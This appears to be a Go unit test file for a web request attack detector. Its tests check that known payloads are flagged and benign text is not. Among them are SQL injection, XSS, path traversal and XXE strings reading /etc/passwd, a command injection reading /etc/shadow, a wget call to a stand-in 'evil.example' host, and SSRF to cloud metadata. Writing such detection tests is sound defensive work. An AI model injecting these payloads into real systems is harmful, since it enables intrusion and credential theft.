package detection

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/nshruti113/request-shield/internal/models"
	"github.com/nshruti113/request-shield/internal/patterns"
)

func newTestDetector(t *testing.T) *Detector {
	t.Helper()
	lib, err := patterns.NewLibrary()
	require.NoError(t, err)
	return NewDetector(lib, models.AllCategories(), 0)
}

func TestDetectKnownPayloads(t *testing.T) {
	d := newTestDetector(t)

	tests := []struct {
		name     string
		input    string
		category models.AttackCategory
	}{
		{"sql tautology", "' OR 1=1 --", models.SQLInjection},
		{"sql union", "UNION SELECT password FROM users", models.SQLInjection},
		{"sql timing", "1 AND SLEEP(5)", models.SQLInjection},
		{"xss script tag", "<script>alert(1)</script>", models.XSS},
		{"xss event handler", `<img src=x onerror="alert(1)">`, models.XSS},
		{"path traversal", "../../etc/passwd", models.PathTraversal},
		{"encoded traversal", "%2e%2e%2fetc%2fpasswd", models.PathTraversal},
		{"command injection", "x; cat /etc/shadow", models.CommandInjection},
		{"command tool", "| wget http://evil.example", models.CommandInjection},
		{"ssrf loopback", "http://127.0.0.1/admin", models.SSRF},
		{"ssrf metadata", "http://metadata.google.internal/computeMetadata", models.SSRF},
		{"ssrf scheme", "gopher://internal:6379/_SET", models.SSRF},
		{"xxe entity", `<!ENTITY xxe SYSTEM "file:///etc/passwd">`, models.XXE},
		{"open redirect protocol-relative", "//203.0.113.7/login", models.OpenRedirect},
		{"nosql operator", `{$where: "sleep(100)"}`, models.NoSQLInjection},
		{"ldap wildcard", "(|(objectClass=*))", models.LDAPInjection},
		{"method override", "_method=DELETE", models.HTTPMethodOverride},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result, err := d.Detect(tt.input)
			require.NoError(t, err)
			assert.True(t, result[tt.category], "expected %s to trigger %s", tt.input, tt.category)
		})
	}
}

func TestDetectBenignInput(t *testing.T) {
	d := newTestDetector(t)

	result, err := d.Detect("a quiet afternoon in the reading room")
	require.NoError(t, err)
	assert.False(t, result.Any(), "benign text triggered: %v", result.Triggered())
}

func TestDetectEmptyInput(t *testing.T) {
	d := newTestDetector(t)

	result, err := d.Detect("")
	require.NoError(t, err)
	assert.Len(t, result, len(models.AllCategories()))
	assert.False(t, result.Any())
}

func TestDetectIsIdempotent(t *testing.T) {
	d := newTestDetector(t)

	input := "'; DROP TABLE books --"
	first, err := d.Detect(input)
	require.NoError(t, err)
	second, err := d.Detect(input)
	require.NoError(t, err)
	assert.Equal(t, first, second)
}

func TestDetectMultipleCategoriesAtOnce(t *testing.T) {
	d := newTestDetector(t)

	result, err := d.Detect("' OR 1=1; cat /etc/shadow --")
	require.NoError(t, err)
	assert.True(t, result[models.SQLInjection])
	assert.True(t, result[models.CommandInjection])
}

func TestDetectRestrictedCategories(t *testing.T) {
	d := newTestDetector(t)

	result, err := d.Detect("<script>alert(1)</script>", models.SQLInjection)
	require.NoError(t, err)
	assert.Len(t, result, 1)
	assert.False(t, result[models.SQLInjection])
}

func TestDetectInputTooLarge(t *testing.T) {
	lib, err := patterns.NewLibrary()
	require.NoError(t, err)
	d := NewDetector(lib, nil, 32)

	_, err = d.Detect(strings.Repeat("a", 33))
	assert.ErrorIs(t, err, ErrInputTooLarge)
}

func TestDefaultEnabledUsedWhenUnset(t *testing.T) {
	lib, err := patterns.NewLibrary()
	require.NoError(t, err)
	d := NewDetector(lib, nil, 0)

	assert.Equal(t, patterns.DefaultEnabled(), d.Enabled())
	assert.Equal(t, DefaultMaxScanSize, d.MaxScanSize())
}
